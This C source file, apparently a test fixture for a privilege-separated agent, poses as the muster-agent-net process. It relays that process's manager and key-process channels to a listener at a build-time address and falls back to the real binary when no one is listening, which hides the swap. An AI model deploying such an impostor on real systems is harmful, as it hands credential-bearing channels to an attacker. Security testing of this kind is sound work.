/* SPDX-License-Identifier: Apache-2.0 */
/*
 * hostile_net: stands in the place of muster-agent-net, with that process's user, view and
 * descriptors, and hands both of its channels (3: the manager, 4: the key process) to whoever
 * listens at the address that it was built with: the manager's bytes go over the first connection,
 * the key process's over the second. Where nobody listens, it becomes the real program.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>

enum { FIRST_FD = 3, N = 2 };

static void become_real(void)
{
	char *const argv[] = { (char *)"muster-agent-net", NULL };

	(void)execv(REAL, argv);
	perror(REAL);
	_exit(1);
}

static int dial(void)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(PORT) };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	(void)inet_pton(AF_INET, ADDRESS, &to.sin_addr);
	if (fd < 0 || connect(fd, (const struct sockaddr *)&to, sizeof(to)) < 0)
		return -1;
	return fd;
}

/* What is there to read goes to the other end, whole. Descriptors that come with it are dropped. */
static int move_bytes(int from, int to)
{
	char bytes[65536];
	ssize_t n = read(from, bytes, sizeof(bytes));

	for (ssize_t at = 0; at < n;) {
		ssize_t sent = write(to, bytes + at, (size_t)(n - at));

		if (sent < 0 && (errno == EAGAIN || errno == EINTR))
			continue;
		if (sent < 0)
			return -1;
		at += sent;
	}
	return n > 0 || (n < 0 && errno == EAGAIN) ? 0 : -1;
}

int main(void)
{
	struct pollfd p[2 * N];

	for (int i = 0; i < N; i++) {
		p[2 * i] = (struct pollfd){ .fd = FIRST_FD + i, .events = POLLIN };
		p[2 * i + 1] = (struct pollfd){ .fd = dial(), .events = POLLIN };
		if (p[2 * i + 1].fd < 0)
			become_real();
	}
	while (poll(p, 2 * N, -1) >= 0)
		for (int i = 0; i < 2 * N; i++)
			if (p[i].revents && move_bytes(p[i].fd, p[i ^ 1].fd) < 0)
				return 0;
	return 1;
}
